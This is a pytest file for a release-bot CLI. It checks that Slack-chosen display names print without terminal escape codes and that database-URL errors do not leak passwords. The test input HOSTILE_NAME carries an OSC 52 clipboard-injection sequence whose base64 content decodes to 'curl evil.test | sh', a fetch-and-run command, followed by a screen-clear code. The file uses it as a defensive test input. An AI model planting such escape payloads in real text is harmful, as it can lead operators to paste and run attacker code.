"""An attacker's review of what the CLI prints: names that came from Slack (a payload's user_name, a
users.info real_name) are anyone's to choose, and the operator's terminal must not obey them."""
from __future__ import annotations

import pytest

from core.config import Settings
from core.runtime import Runtime
from core.services import tenants
from core.services.release_creation import create_release
from core.services.tenants import ensure_account
from tests.cli.test_cli import env, run, workspace  # noqa: F401  (fixtures)
from tests.factories import World

# OSC 52 asks the terminal to replace the clipboard; CSI 2J clears the screen. Both are plain text to Slack.
HOSTILE_NAME = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaAo=\x07Mallory\x1b[2J"


def test_release_show_prints_a_slack_chosen_name_without_its_terminal_escape_sequences(workspace, capsys):  # noqa: F811
    rt = Runtime(Settings.from_env())
    with rt.unit_of_work() as s:
        tenant = tenants.find_tenant(s, "T100")
        world = World(s, rt.cipher, existing_tenant=tenant)
        # What the tenant middleware stores for a new person: the payload's user_name, any text Slack allows.
        pilot = ensure_account(s, tenant_id=tenant.id, slack_user_id="U0MALLORY", display_name=HOSTILE_NAME)
        create_release(s, tenant_id=tenant.id, actor_account_id=world.admin.id,
                       draft=world.draft(release_pilot_id=pilot.id, target_ids=(world.ios.id,), pipeline_ids=()))
    code, out, err = run(capsys, "release", "show", "1.5.0", "--tenant", "T100")
    assert code == 0, err
    assert "Mallory" in out
    assert "\x1b" not in out and "\x07" not in out


@pytest.mark.parametrize("url", ["mysql://releasebot:s3cret-pw@127.0.0.1:3306/releasebot",
                                 "postgresql://releasebot:s3cret-pw@127.0.0.1:5432/releasebot"])
def test_a_database_url_whose_driver_is_not_installed_is_one_line_naming_the_setting(env, capsys, monkeypatch, url):  # noqa: F811
    monkeypatch.setenv("DATABASE_URL", url)
    code, out, err = run(capsys, "tenant", "list")
    assert code != 0 and "s3cret-pw" not in out + err
    assert "unexpected failure" not in err and "DATABASE_URL" in err
    assert len(err.strip().splitlines()) == 1
